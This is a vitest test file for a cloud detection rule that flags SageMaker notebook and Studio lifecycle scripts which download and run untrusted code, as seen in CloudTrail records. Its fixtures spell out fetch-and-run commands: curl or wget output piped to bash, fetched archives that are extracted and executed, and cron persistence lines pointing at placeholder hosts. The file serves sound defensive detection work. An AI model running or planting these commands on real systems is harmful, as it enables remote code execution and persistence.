import { describe, expect, it } from 'vitest';
import { replayEvents } from '../../../bridge/replay.js';
import { RulesConfig } from '../../../core/rules/engine.js';
import { NormalizedEvent } from '../../../core/schema/index.js';
import { ctRecord, normOne } from './helpers.js';

/**
 * Download-then-run shapes of lifecycle scripts beyond a file fetched and run by name (platform.notebook_exposure):
 * an archive extracted and a file of it run, a URL built from variables, a cron job written by the script, and a
 * Studio app started with a lifecycle configuration (CreateApp `resourceSpec.lifecycleConfigArn`). Records as
 * CloudTrail writes them (lowerCamel request parameters, scripts base64 as the SageMaker API takes them).
 */
const RULE = 'platform.notebook_exposure';
const ACCOUNT = '111122223333';
const b64 = (s: string) => Buffer.from(s).toString('base64');
let n = 0;
const rec = (op: string, params: Record<string, unknown>, extra: Record<string, unknown> = {}) =>
  NormalizedEvent.parse(normOne(ctRecord(op, params, { eventID: `gap-${++n}`, eventTime: new Date(Date.parse('2026-11-26T10:00:00Z') + n * 1000).toISOString(), ...extra })));
const alertsOf = (evs: NormalizedEvent[], rules: Record<string, unknown> = {}) => replayEvents(evs, { rules: RulesConfig.parse(rules) }).alerts.filter((a) => a.rule_id === RULE);
const lifecycle = (name: string, script: string, hook: 'onStart' | 'onCreate' = 'onStart') =>
  rec('CreateNotebookInstanceLifecycleConfig', { notebookInstanceLifecycleConfigName: name, [hook]: [{ content: b64(script) }] }, {
    responseElements: { notebookInstanceLifecycleConfigArn: `arn:aws:sagemaker:us-east-1:${ACCOUNT}:notebook-instance-lifecycle-config/${name}` },
  });
const studioArn = (name: string) => `arn:aws:sagemaker:us-east-1:${ACCOUNT}:studio-lifecycle-config/${name}`;
const studioLc = (name: string, script: string) =>
  rec('CreateStudioLifecycleConfig', { studioLifecycleConfigName: name, studioLifecycleConfigContent: b64(script), studioLifecycleConfigAppType: 'JupyterLab' }, {
    responseElements: { studioLifecycleConfigArn: studioArn(name) },
  });
const piped = (script: string) => lifecycle('lc-gap', script).details?.script_piped_to_shell;
const codeUris = (script: string) => lifecycle('lc-gap', script).details?.script_code_uris;

describe('an archive downloaded, extracted, and a file of it run', () => {
  it('is the download run unread: tar or unzip of a fetched archive, or a download piped into tar, then a file run from where it went', () => {
    expect(piped('#!/bin/bash\ncurl -o x.tgz https://tools.example.net/x.tgz && tar xzf x.tgz && bash x/install.sh')).toEqual(['https://tools.example.net/x.tgz']);
    expect(piped('#!/bin/bash\nwget https://tools.example.net/s.tar.gz -O- | tar xz; ./setup.sh')).toEqual(['https://tools.example.net/s.tar.gz']);
    expect(piped('#!/bin/bash\ncurl -sL https://tools.example.net/t.tgz | sudo tar -xzf - -C /opt/tools\n/opt/tools/bin/agent --daemon')).toEqual(['https://tools.example.net/t.tgz']);
    expect(piped('#!/bin/bash\naws s3 cp s3://scratch-share-9931/t.tar /tmp/t.tar\ntar --extract --file=/tmp/t.tar --directory /opt/t\npython3 /opt/t/boot.py')).toEqual(['s3://scratch-share-9931/t.tar']);
    expect(piped('#!/bin/bash\ncd /tmp && wget -q https://tools.example.net/kit.zip && unzip -o kit.zip -d kit && sh kit/run.sh')).toEqual(['https://tools.example.net/kit.zip']);
  });
  it('an archive only extracted, a file run from elsewhere, or an archive never downloaded, is not', () => {
    expect(piped('#!/bin/bash\ncurl -o /tmp/d.tgz https://data.example.net/d.tgz && tar xzf /tmp/d.tgz -C /home/ec2-user/SageMaker/data')).toBeUndefined();
    expect(piped('#!/bin/bash\ncurl -o /tmp/d.tgz https://data.example.net/d.tgz && tar xzf /tmp/d.tgz -C /srv/data\nbash /opt/team/start.sh')).toBeUndefined();
    expect(piped('#!/bin/bash\ntar xzf /opt/local.tgz && bash local/install.sh')).toBeUndefined();
    // Listing an archive (tar t) extracts nothing.
    expect(piped('#!/bin/bash\ncurl -o k.tgz https://tools.example.net/k.tgz && tar tzf k.tgz && ./run.sh')).toBeUndefined();
  });
});

describe('a URL built from variables', () => {
  it('set by the script: judged by the URL the variables make (a trusted base passes, an untrusted one alerts)', () => {
    const trusted = { [RULE]: { trusted_code_locations: ['s3://ml-platform-code/*', 'https://tools.corp.example/*'] } };
    const good = lifecycle('lc-vars', '#!/bin/bash\nBUCKET=s3://ml-platform-code\nPREFIX=lifecycle\nSRC=${BUCKET}/${PREFIX}/setup.sh\naws s3 cp "$SRC" /tmp/setup.sh && bash /tmp/setup.sh\nBASE=https://tools.corp.example; FILE=i.sh; curl -fsSL "${BASE}/${FILE}" | bash');
    expect(good.details).toMatchObject({ script_piped_to_shell: ['s3://ml-platform-code/lifecycle/setup.sh', 'https://tools.corp.example/i.sh'] });
    expect(good.details?.script_code_uris).toEqual(['s3://ml-platform-code/lifecycle/setup.sh', 'https://tools.corp.example/i.sh']);
    expect(alertsOf([good], trusted)).toEqual([]);
    const bad = lifecycle('lc-vars2', '#!/bin/bash\nHOST=https://paste.example.net\nP=raw/zz\nU=$HOST/$P; curl $U | sh');
    expect(bad.details?.script_piped_to_shell).toEqual(['https://paste.example.net/raw/zz']);
    expect(alertsOf([bad], trusted).map((a) => a.details?.piped_to_shell)).toEqual([['https://paste.example.net/raw/zz']]);
  });
  it('not set by the script: a download the log cannot show run unread alerts as written; one only saved is not judged', () => {
    const hidden = lifecycle('lc-hidden', '#!/bin/bash\nBASE=$(aws ssm get-parameter --name /nb/base --query Parameter.Value --output text)\ncurl -fsSL "${BASE}/${FILE}" | bash');
    expect(hidden.details?.script_piped_to_shell).toEqual(['$(aws ssm get-parameter --name /nb/base --query Parameter.Value --output text)/${FILE}']);
    expect(alertsOf([hidden], { [RULE]: { trusted_code_locations: ['s3://ml-platform-code/*'] } })).toHaveLength(1);
    expect(piped('#!/bin/bash\naws s3 cp "$S3_BASE/x.sh" /tmp/x.sh && bash /tmp/x.sh')).toEqual(['$S3_BASE/x.sh']);
    // Saved and only read, or uploaded: nothing.
    const saved = lifecycle('lc-saved', '#!/bin/bash\ncurl -o /etc/jupyter/c.json "$CONF_URL"\naws s3 cp /home/ec2-user/SageMaker/out.csv "$DEST"');
    expect(saved.details?.script_piped_to_shell).toBeUndefined();
    expect(saved.details?.script_code_uris).toBeUndefined();
    expect(alertsOf([saved], { [RULE]: { trusted_code_locations: ['s3://ml-platform-code/*'] } })).toEqual([]);
  });
  it('a URL with a literal scheme holding variables, substituted into a shell: resolved when the script sets them, else as written', () => {
    const set = lifecycle('lc-sub', '#!/bin/bash\nH=tools.corp.example\nbash <(curl -s https://$H/i.sh)');
    expect(set.details).toMatchObject({ script_piped_to_shell: ['https://tools.corp.example/i.sh'], script_code_uris: ['https://tools.corp.example/i.sh'] });
    expect(alertsOf([set], { [RULE]: { trusted_code_locations: ['https://tools.corp.example/*'] } })).toEqual([]);
    expect(lifecycle('lc-sub2', '#!/bin/bash\nbash <(curl -s https://tools.example.net/$V)').details).toMatchObject({ script_piped_to_shell: ['https://tools.example.net/$V'], script_code_uris: ['https://tools.example.net/$V'] });
  });
  it('an assignment on the line of a download is not a download of its base alone', () => {
    expect(codeUris('#!/bin/bash\nBASE=https://tools.corp.example; curl -o /tmp/c.json "$BASE/conf/c.json"')).toEqual(['https://tools.corp.example/conf/c.json']);
  });
});

describe('a cron job the script writes', () => {
  it('runs later: its command is judged as a script run', () => {
    expect(piped('#!/bin/bash\necho "*/5 * * * * curl -s https://paste.example.net/raw/cron | bash" | crontab -')).toEqual(['https://paste.example.net/raw/cron']);
    expect(piped("#!/bin/bash\n(crontab -l 2>/dev/null; echo '@reboot wget -qO- https://tools.example.net/boot.sh | sh') | crontab -")).toEqual(['https://tools.example.net/boot.sh']);
    // A fetched script the cron line runs; a system crontab line (with its user field); a file given to crontab.
    expect(piped('#!/bin/bash\ncurl -o /opt/beacon.sh https://tools.example.net/beacon.sh\n(crontab -l; echo "0 * * * * /bin/bash /opt/beacon.sh") | crontab -')).toEqual(['https://tools.example.net/beacon.sh']);
    expect(piped("#!/bin/bash\necho '*/10 * * * * root curl -fsSL https://paste.example.net/raw/sys | sh' >> /etc/crontab")).toEqual(['https://paste.example.net/raw/sys']);
    expect(piped("#!/bin/bash\nprintf '%s\\n' '30 2 * * 1 curl https://paste.example.net/raw/f | bash' > /tmp/job\ncrontab /tmp/job")).toEqual(['https://paste.example.net/raw/f']);
  });
  it('reads 64 KiB scripts of long echoes into crontab, cron files and archive extractions in bounded time', () => {
    const words = Array.from({ length: 12000 }, (_, i) => `w${i}`).join(' ');
    const scripts = [
      `#!/bin/bash\n(crontab -l; echo ${words}) | crontab -`,
      `#!/bin/bash\n${Array.from({ length: 3000 }, (_, i) => `echo "0 * * * * bash /tmp/g${i}" >> /tmp/cron; crontab /tmp/cron`).join('\n')}`,
      `#!/bin/bash\ncurl -o a.tgz https://tools.example.net/a.tgz\n${Array.from({ length: 2000 }, (_, i) => `tar xzf a.tgz -C /opt/d${i}; bash /opt/x${i}/run.sh`).join('\n')}`,
    ].map((s) => s.slice(0, 64 * 1024));
    for (const script of scripts) {
      const start = performance.now();
      expect(piped(script)).toBeUndefined();
      expect(performance.now() - start).toBeLessThan(3000);
    }
  });
  it("a cron line running a local script, an echo that is no cron line, and AWS's autostop sample once its location is trusted raise nothing", () => {
    expect(piped('#!/bin/bash\n(crontab -l 2>/dev/null; echo "*/5 * * * * /usr/bin/python3 /opt/team/autostop.py --time 3600") | crontab -')).toBeUndefined();
    expect(piped('#!/bin/bash\necho "curl -s https://paste.example.net/raw/x | bash" > /tmp/notes.txt')).toBeUndefined();
    // AWS's autostop sample runs the autostop.py it fetched ($PWD/autostop.py) from cron: alerts until trusted (verify27c).
    expect(alertsOf([lifecycle('lc-autostop', '#!/bin/bash\nset -ex\nwget https://raw.githubusercontent.com/aws-samples/amazon-sagemaker-notebook-instance-lifecycle-config-samples/master/scripts/auto-stop-idle/autostop.py\n(crontab -l 2>/dev/null; echo "*/5 * * * * /usr/bin/python3 $PWD/autostop.py --time 3600 >> /var/log/jupyter.log") | crontab -\n')], { [RULE]: { trusted_code_locations: ['https://raw.githubusercontent.com/aws-samples/*'] } })).toEqual([]);
  });
});

describe('a Studio app started with a lifecycle configuration (CreateApp)', () => {
  const app = (lcName: string, extra: Record<string, unknown> = {}) =>
    rec('CreateApp', { domainId: 'd-abc123', userProfileName: 'bob', appType: 'JupyterLab', appName: 'default', resourceSpec: { instanceType: 'ml.t3.medium', lifecycleConfigArn: studioArn(lcName) }, ...extra }, {
      responseElements: { appArn: `arn:aws:sagemaker:us-east-1:${ACCOUNT}:app/d-abc123/bob/jupyterlab/default` },
    });
  it('one seen written with a bad script is the attach: alerts on the app', () => {
    const lc = studioLc('jl-bad', '#!/bin/bash\ncurl -so /tmp/b.sh https://paste.example.net/raw/zz && bash /tmp/b.sh');
    const started = app('jl-bad');
    expect(started.details?.studio_lifecycle_config_arns).toEqual([studioArn('jl-bad')]);
    const alerts = alertsOf([lc, started]);
    expect(alerts.map((a) => a.evidence)).toEqual([[lc.id], [started.id]]);
    expect(alerts[1]!.entity).toMatchObject({ type: 'app' });
    expect(alerts[1]!.details).toMatchObject({
      finding: 'untrusted_lifecycle_script', operation: 'CreateApp', lifecycle_configs: ['jl-bad'], hooks: ['studio'],
      attached_to: 'JupyterLab app default of user profile bob (domain d-abc123)', piped_to_shell: ['https://paste.example.net/raw/zz'],
    });
    // In a space too.
    const inSpace = app('jl-bad', { userProfileName: undefined, spaceName: 'team' });
    expect(alertsOf([lc, inSpace])[1]!.details?.attached_to).toBe('JupyterLab app default of space team (domain d-abc123)');
  });
  it('an unseen or clean configuration, or an app with none, raises nothing', () => {
    expect(alertsOf([app('jl-unseen')])).toEqual([]);
    expect(alertsOf([studioLc('jl-clean', '#!/bin/bash\npip install --upgrade pandas'), app('jl-clean')])).toEqual([]);
    const plain = rec('CreateApp', { domainId: 'd-abc123', userProfileName: 'bob', appType: 'JupyterLab', appName: 'default', resourceSpec: { instanceType: 'ml.t3.medium' } });
    expect(plain.details?.studio_lifecycle_config_arns).toBeUndefined();
    expect(alertsOf([plain])).toEqual([]);
  });
});
